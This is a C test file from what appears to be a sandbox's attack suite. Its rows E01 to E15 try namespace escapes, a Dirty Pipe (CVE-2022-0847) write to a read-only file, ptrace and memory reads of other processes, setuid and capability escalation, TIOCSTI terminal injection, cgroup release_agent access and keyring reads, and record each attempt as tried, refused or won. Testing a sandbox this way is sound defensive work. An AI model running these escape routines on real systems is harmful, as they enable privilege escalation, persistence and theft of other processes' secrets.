/*
 * escape.c - rows E01 to E15: out of the namespaces, to other processes, to more power.
 */
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/uio.h>
#include <sys/wait.h>

#include "rpc/base/own.h"
#include "tests/attacks/attack.h"

/* ---- E01, E02: namespaces ---- */

static const struct {
    const char *name;
    unsigned long flag;
} namespaces[] = {
    {"NEWUSER", CLONE_NEWUSER}, {"NEWNS", CLONE_NEWNS},   {"NEWNET", CLONE_NEWNET},       {"NEWPID", CLONE_NEWPID},
    {"NEWIPC", CLONE_NEWIPC},   {"NEWUTS", CLONE_NEWUTS}, {"NEWCGROUP", CLONE_NEWCGROUP}, {"NEWTIME", CLONE_NEWTIME},
};

/* Each kind by each of the three calls; clone has no room for NEWTIME, which lies among its signal's bits. */
static void new_namespaces(struct attempt *a)
{
    for (size_t i = 0; i < ARRAY_COUNT(namespaces); i++) {
        struct clone_args args = {.flags = namespaces[i].flag, .exit_signal = SIGCHLD};
        long pid = CALL(clone3, &args, sizeof args);
        if (pid == 0)
            _exit(0);
        tried(a, namespaces[i].name, pid);
        if (namespaces[i].flag == CLONE_NEWTIME)
            continue;
        pid = CALL(clone, namespaces[i].flag | SIGCHLD, NULL, NULL, NULL, 0);
        if (pid == 0)
            _exit(0);
        tried(a, namespaces[i].name, pid);
    }
    for (size_t i = 0; i < ARRAY_COUNT(namespaces); i++)
        tried(a, namespaces[i].name, CALL(unshare, namespaces[i].flag));
}

static void join_namespaces(struct attempt *a)
{
    long pidfd = CALL(pidfd_open, getpid(), 0);
    tried(a, pidfd < 0 ? "pidfd_open" : "NEWUTS", pidfd < 0 ? pidfd : CALL(setns, pidfd, CLONE_NEWUTS));
    for (size_t i = 0; i < ARRAY_COUNT(namespaces); i++)
        tried(a, namespaces[i].name, CALL(setns, pidfd < 0 ? CONTRACT_RING_FD : pidfd, namespaces[i].flag));
}

/* ---- E03, E04: what was left lying about ---- */

static void inherited_descriptors(struct attempt *a)
{
    char byte;
    unsigned found = 0;
    for (int fd = CONTRACT_FD_COUNT; fd < 1024; fd++) {
        /* Of nothing: what is open for writing alone says EBADF to the first, and only that is asked the second. */
        long result = CALL(read, fd, &byte, 0);
        if (result == -EBADF)
            result = CALL(write, fd, &byte, 0);
        found += result != -EBADF;
    }
    if (found > 0)
        won(a, "%u descriptors beyond the contract's", found);
    refused(a, "EBADF");
    for (int fd = 0; fd < 16; fd++) {
        char path[32];
        (void)snprintf(path, sizeof path, "/proc/self/fd/%d/..", fd);
        tried(a, path, CALL(openat, AT_FDCWD, path, O_RDONLY | O_DIRECTORY));
    }
}

static void write_a_binary(struct attempt *a)
{
    static const char *const paths[] = {"/launcher", "/bin/keeper", "/proc/self/exe", "/proc/1/exe"};
    for (size_t i = 0; i < ARRAY_COUNT(paths); i++) {
        long fd = CALL(openat, AT_FDCWD, paths[i], O_WRONLY);
        tried(a, paths[i], fd < 0 ? fd : CALL(pwrite64, fd, "owned", 5, 1024));
    }
}

/* What a service may execute is its own program; it runs in our place then, says so, and goes on with the next row. */
static void execute_others(struct attempt *a)
{
    static const char *const paths[] = {"/launcher", "/proc/1/exe", "/bin/initsvc", "/bin/hostd"};
    for (size_t i = 0; i < ARRAY_COUNT(paths); i++)
        tried(a, paths[i], execute(paths[i], "E04b"));
}

/* CVE-2022-0847: the page of a file, spliced into a pipe, keeps its "may be merged" mark. */
static void dirty_pipe(struct attempt *a)
{
    int ends[2];
    char before, after = '\0', filler[4096] = "";
    long fd = CALL(openat, AT_FDCWD, "/launcher", O_RDONLY), result = CALL(pipe2, ends, O_NONBLOCK);
    loff_t offset = 1024;
    if (fd < 0 || result < 0) {
        tried(a, "open", fd < 0 ? fd : result);
        return;
    }
    while (write(ends[1], filler, sizeof filler) > 0)
        ; /* every buffer of the pipe gets the mark */
    while (read(ends[0], filler, sizeof filler) > 0)
        ;
    if (pread((int)fd, &before, 1, 1025) != 1 || CALL(splice, fd, &offset, ends[1], NULL, 1, 0) != 1 ||
        write(ends[1], before == 'x' ? "y" : "x", 1) != 1 || pread((int)fd, &after, 1, 1025) != 1)
        tried(a, "splice", -errno);
    else if (after != before)
        won(a, "a read-only file was written");
    else
        refused(a, "the contents are the same");
}

/* ---- E05 to E08: processes ---- */

static void try_trace(struct attempt *a, const char *what, pid_t pid)
{
    long traced = CALL(ptrace, PTRACE_SEIZE, pid, NULL, NULL);
    tried(a, what, traced);
    if (traced >= 0)
        (void)CALL(ptrace, PTRACE_DETACH, pid, NULL, NULL); /* it goes on; it was never stopped */
}

static void other_processes(struct attempt *a)
{
    char bytes[16];
    struct iovec here = {bytes, sizeof bytes}, there = {(void *)(uintptr_t)0x400000, sizeof bytes};
    tried(a, "kill", CALL(kill, 1, 0));
    tried(a, "process_vm_readv", CALL(process_vm_readv, 1, &here, 1, &there, 1, 0));
    long pidfd = CALL(pidfd_open, 1, 0);
    tried(a, "pidfd_open", pidfd < 0 ? pidfd : -EPERM); /* by itself it is no power over anybody */
    tried(a, "pidfd_getfd", CALL(pidfd_getfd, pidfd < 0 ? CONTRACT_RING_FD : pidfd, 3, 0));
    try_trace(a, "ptrace", 1);
}

static void hostd_and_siblings(struct attempt *a)
{
    static const char *const names[] = {"hostd", "sibling"};
    for (size_t i = 0; i < ARRAY_COUNT(names); i++) {
        pid_t pid = atoi(argument(names[i]));
        if (pid <= 0) {
            refused(a, "no argument %s", names[i]);
            continue;
        }
        char what[64];
        (void)snprintf(what, sizeof what, "kill %s", names[i]);
        tried(a, what, CALL(kill, pid, 0));
        char bytes[16];
        struct iovec here = {bytes, sizeof bytes}, there = {(void *)(uintptr_t)0x400000, sizeof bytes};
        tried(a, "read", CALL(process_vm_readv, pid, &here, 1, &there, 1, 0));
        FD_AUTO int pidfd = (int)CALL(pidfd_open, pid, 0);
        tried(a, "pidfd_getfd", pidfd < 0 ? pidfd : CALL(pidfd_getfd, pidfd, 1, 0));
        try_trace(a, "ptrace", pid);
    }
}

/* A process that may not be touched, but can be seen, is a leak as well. */
static void see_processes(struct attempt *a)
{
    unsigned own = 0, others = 0;
    for (pid_t pid = 1; pid < 100000; pid++)
        if (kill(pid, 0) == 0)
            own++;
        else if (errno != ESRCH)
            others++;
    tried(a, "/proc", CALL(openat, AT_FDCWD, "/proc/1/stat", O_RDONLY));
    if (others > 0 || own > 6) /* PID 1, the service, and we */
        won(a, "%u processes", own + others);
    else
        refused(a, "only its own");
}

/* Survives the end of the service, where nothing ends it. */
static void daemonize(struct attempt *a)
{
    pid_t pid = fork();
    if (pid == 0 && (setsid() < 0 || (pid = fork()) != 0))
        _exit(0);
    if (pid == 0) {
        static char name[] = "attack-daemon";
        (void)prctl(PR_SET_NAME, name);
        for (int fd = 0; fd < 64; fd++)
            (void)close(fd); /* it holds nothing that would keep anybody waiting */
        for (int signal_number = 1; signal_number < 32; signal_number++)
            (void)signal(signal_number, SIG_IGN);
        for (;;)
            (void)poll(NULL, 0, 1000);
    }
    tried(a, "a daemon", pid < 0 ? -errno : 0);
}

/* ---- E09 to E12: more power ---- */

/* What a child says that executes it in our place: itself, with the row E09b. */
static void try_power_of(struct attempt *a, const char *path)
{
    int ends[2], status = 0;
    char line[200] = "";
    if (pipe(ends) < 0)
        return;
    pid_t pid = fork();
    if (pid == 0) {
        (void)dup2(ends[1], STDOUT_FILENO);
        static char flag[] = "E09b";
        char *argv[] = {(char *)(uintptr_t)path, flag, NULL}, *envp[] = {NULL};
        (void)execve(path, argv, envp);
        _exit(errno);
    }
    (void)close(ends[1]);
    (void)waitpid(pid, &status, 0);
    (void)!read(ends[0], line, sizeof line - 1);
    (void)close(ends[0]);
    if (strstr(line, "SUCCEEDED"))
        won(a, "%s by it", strstr(line, "user id 0") ? "became root" : "got capabilities");
    else if (line[0])
        refused(a, "ran, and stayed what it was");
    else
        tried(a, "exec", -WEXITSTATUS(status));
}

/* As an ordinary user of the service's namespaces; the files belong to their root, and one gives every capability. */
static void powerful_files(struct attempt *a)
{
    if (CALL(setresgid, 1000, 1000, 1000) < 0 || CALL(setresuid, 1000, 1000, 1000) < 0) {
        refused(a, "no user to be");
        return;
    }
    try_power_of(a, "/setuid");
    try_power_of(a, "/capable");
}

/* What the files of the row above do. */
static void am_i_root(struct attempt *a)
{
    struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct all[2] = {{0}};
    if (geteuid() == 0)
        won(a, "user id 0");
    else if (CALL(capget, &header, all) == 0 && (all[0].effective | all[0].permitted | all[1].effective))
        won(a, "capabilities");
    else
        refused(a, "user id %u", geteuid());
}

/* The same by a process that has given up new privileges: in its place, for it may not fork. */
static void setuid_in_place(struct attempt *a)
{
    tried(a, "exec", execute("/setuid", "E09c"));
}

static void regain_capabilities(struct attempt *a)
{
    struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct all[2] = {{~0u, ~0u, ~0u}, {~0u >> 23, ~0u >> 23, ~0u >> 23}};
    tried(a, "capset", CALL(capset, &header, all));
    tried(a, "PR_CAP_AMBIENT_RAISE", CALL(prctl, PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
    tried(a, "setresuid", CALL(setresuid, 0, 0, 0));
}

static void push_into_the_terminal(struct attempt *a)
{
    for (int fd = 0; fd < CONTRACT_FD_COUNT; fd++)
        tried(a, "TIOCSTI", CALL(ioctl, fd, TIOCSTI, " "));
    long fd = CALL(openat, AT_FDCWD, "/dev/tty", O_RDWR);
    tried(a, fd < 0 ? "/dev/tty" : "TIOCSTI", fd < 0 ? fd : CALL(ioctl, fd, TIOCSTI, " "));
}

static void core_dumps(struct attempt *a)
{
    struct rlimit core = {1 << 20, 1 << 20};
    tried(a, "a core limit of 1 MiB", CALL(prlimit64, 0, RLIMIT_CORE, &core, NULL));
    tried(a, "core_pattern", CALL(openat, AT_FDCWD, "/proc/sys/kernel/core_pattern", O_WRONLY));
}

/* In a data directory, with as much of a core file as may be. */
static void crash(struct attempt *a)
{
    struct rlimit core = {0, 0};
    (void)CALL(chdir, "/box");
    (void)CALL(prlimit64, 0, RLIMIT_CORE, NULL, &core);
    core.rlim_cur = core.rlim_max;
    (void)CALL(prlimit64, 0, RLIMIT_CORE, &core, NULL);
    __builtin_trap(); /* no system call: what a filter would refuse */
    refused(a, "no crash");
}

/* ---- E13 to E15: what is the kernel's, not a file's ---- */

static void control_groups(struct attempt *a)
{
    static const struct {
        const char *type, *options, *file;
    } trees[] = {{"cgroup", "memory", "/bin/memory.limit_in_bytes"},
                 {"cgroup", "memory", "/bin/release_agent"},
                 {"cgroup2", NULL, "/bin/memory.max"}};
    (void)unshare(CLONE_NEWNS); /* what we mount is nobody else's */
    for (size_t i = 0; i < ARRAY_COUNT(trees); i++) {
        long result = CALL(mount, "none", "/bin", trees[i].type, 0, trees[i].options);
        if (result >= 0) {
            result = CALL(openat, AT_FDCWD, trees[i].file, O_WRONLY);
            (void)umount2("/bin", MNT_DETACH); /* the next one may have its place */
        }
        if (result != -ENOENT && result != -EBUSY && result != -EINVAL) /* not of this machine's version */
            tried(a, trees[i].file + sizeof "/bin", result);
    }
}

/* Objects of another's that anybody may read: made by `attack --listen`, of that key and name. */
static void try_ipc(struct attempt *a, const char *whose, const char *key_argument, const char *name_argument)
{
    const struct {
        const char *what;
        long result;
    } tries[] = {
        {"segment", CALL(shmget, strtol(argument(key_argument), NULL, 0), 0, 0)},
        {"semaphore", CALL(semget, strtol(argument(key_argument), NULL, 0), 0, 0)},
        {"queue", CALL(msgget, strtol(argument(key_argument), NULL, 0), 0, 0)},
        {"POSIX queue", CALL(mq_open, argument(name_argument), O_RDONLY, 0, NULL)},
    };
    char what[64];
    for (size_t i = 0; i < ARRAY_COUNT(tries); i++) {
        (void)snprintf(what, sizeof what, "a %s of %s", tries[i].what, whose);
        tried(a, what, tries[i].result);
    }
    tried(a, "attached", tries[0].result < 0 ? tries[0].result : CALL(shmat, tries[0].result, NULL, SHM_RDONLY));
    (void)snprintf(what, sizeof what, "/dev/shm/%s", argument(name_argument));
    tried(a, what, CALL(openat, AT_FDCWD, what, O_RDONLY)); /* where POSIX shared memory would be */
}

static void shared_memory(struct attempt *a)
{
    try_ipc(a, "the host", "shm", "name");
}

static void shared_by_a_sibling(struct attempt *a)
{
    try_ipc(a, "a sibling", "shm-of-sibling", "name-of-sibling");
}

static void keys(struct attempt *a)
{
    static const struct {
        const char *what;
        int ring;
    } rings[] = {{"hostd's key", KEY_SPEC_SESSION_KEYRING}, {"its user's key", KEY_SPEC_USER_KEYRING}};
    char secret[16];
    for (size_t i = 0; i < ARRAY_COUNT(rings); i++) {
        long key = CALL(keyctl, KEYCTL_SEARCH, rings[i].ring, "user", "hostd-attack", 0);
        tried(a, rings[i].what, key < 0 ? key : CALL(keyctl, KEYCTL_READ, key, secret, 16));
    }
}

/* By its number, which a service can guess. */
static void key_of_a_sibling(struct attempt *a)
{
    char keys_of[256];
    long ring_id = strtol(argument("keyring"), NULL, 16);
    tried(a, "a sibling's keyring", ring_id ? CALL(keyctl, KEYCTL_READ, ring_id, keys_of, sizeof keys_of) : -EINVAL);
}

const struct row rows_escape[] = {
    {"E01", new_namespaces},
    {"E02", join_namespaces},
    {"E03", inherited_descriptors, true},
    {"E04", write_a_binary},
    {"E04b", execute_others, true},
    {"E05", dirty_pipe},
    {"E06", other_processes},
    {"E06b", hostd_and_siblings},
    {"E07", see_processes},
    {"E08", daemonize, true},
    {"E09", powerful_files},
    {"E09b", am_i_root, true},
    {"E09c", setuid_in_place, true, am_i_root},
    {"E10", regain_capabilities},
    {"E11", push_into_the_terminal},
    {"E12", core_dumps},
    {"E12b", crash, true},
    {"E13", control_groups},
    {"E14", shared_memory},
    {"E14b", shared_by_a_sibling},
    {"E15", keys},
    {"E15b", key_of_a_sibling},
    {NULL, NULL},
};
